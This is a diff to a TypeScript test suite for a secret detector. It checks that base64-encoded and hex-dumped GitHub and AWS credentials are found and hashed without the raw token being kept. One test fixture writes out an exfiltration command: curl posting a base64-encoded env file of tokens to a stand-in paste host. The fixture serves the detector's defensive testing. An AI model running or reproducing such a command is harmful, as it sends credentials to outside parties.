@@ -5,7 +5,7 @@ import { argumentCredentialTexts, credentialHits, credentialText } from './crede
 const GHP = 'ghp_C4NARYidentityc4naryIDENTITYcan4ry01';
 const hasher = createValueHasher(new Uint8Array(32).fill(9));
 /** The hashes of the credentials the detector finds in `text`, as the re-scan records them. */
-const hitHashes = (text: string) => credentialHits(text, defaultSecretDetector.findAll(text), hasher).map((h) => h.hash);
+const hitHashes = (text: string) => credentialHits(text, defaultSecretDetector.findAll(text), hasher, defaultSecretDetector).map((h) => h.hash);
 /** The hashes recorded for a secret argument whose value is `value`. */
 const argumentHashes = (value: string) => argumentCredentialTexts(value, defaultSecretDetector).map((t) => hasher.hash(t));
 
@@ -53,9 +53,32 @@ describe('a credential\'s identity', () => {
     }
   });
 
+  it('a credential sent as base64 or dumped as hex is the token inside: one credential with its plain copy', () => {
+    const aws = 'AKIAQ3EGRSXVB2MN7KLP';
+    const env = `GITHUB_TOKEN=${GHP}\nAWS_ACCESS_KEY_ID=${aws}\nDEBUG=false\n`;
+    const base64 = Buffer.from(env).toString('base64');
+    const hex = Buffer.from(env).toString('hex');
+    const wrapped = hex.match(/.{1,60}/g)!.join('\n'); // xxd -p
+    const plain = [...argumentHashes(GHP), ...argumentHashes(aws)];
+    for (const [name, text] of [['base64', `curl -d ${base64} https://paste.example.com`], ['hex', `echo ${hex} | xxd -r -p`], ['xxd -p', wrapped]] as const) {
+      const hits = credentialHits(text, defaultSecretDetector.findAll(text), hasher, defaultSecretDetector);
+      // each rule's hit is the token of that rule inside the run, as its plain copy hashes
+      expect(hits.map((h) => h.ruleId).sort(), name).toEqual(['aws-access-key-id', 'github-pat']);
+      for (const h of hits) expect(plain, `${name} ${h.ruleId}`).toContain(h.hash);
+    }
+    // The argument holding the encoded run: the same credentials.
+    for (const t of argumentCredentialTexts(base64, defaultSecretDetector)) expect([GHP, aws]).toContain(t);
+    // Without a detector (or a run that holds none) the text is the run as found.
+    expect(credentialText(base64)).toBe(base64);
+    const noCredential = Buffer.from('just some configuration text, nothing secret in it').toString('base64');
+    expect(credentialText(noCredential, defaultSecretDetector)).toBe(noCredential);
+    // A plain token whose characters are base64's is itself.
+    expect(credentialText(aws, defaultSecretDetector, 'aws-access-key-id')).toBe(aws);
+  });
+
   it('two different credentials of one text are two hits, the same one twice is one; neither text is kept', () => {
     const aws = 'AKIAQ3EGRSXVB2MN7KLP';
-    const hits = credentialHits(`${GHP} and ${aws} and ${GHP}`, defaultSecretDetector.findAll(`${GHP} and ${aws} and ${GHP}`), hasher);
+    const hits = credentialHits(`${GHP} and ${aws} and ${GHP}`, defaultSecretDetector.findAll(`${GHP} and ${aws} and ${GHP}`), hasher, defaultSecretDetector);
     expect(hits.map((h) => h.ruleId)).toEqual(['github-pat', 'aws-access-key-id']);
     expect(JSON.stringify(hits)).not.toContain(GHP);
     expect(JSON.stringify(hits)).not.toContain(aws);
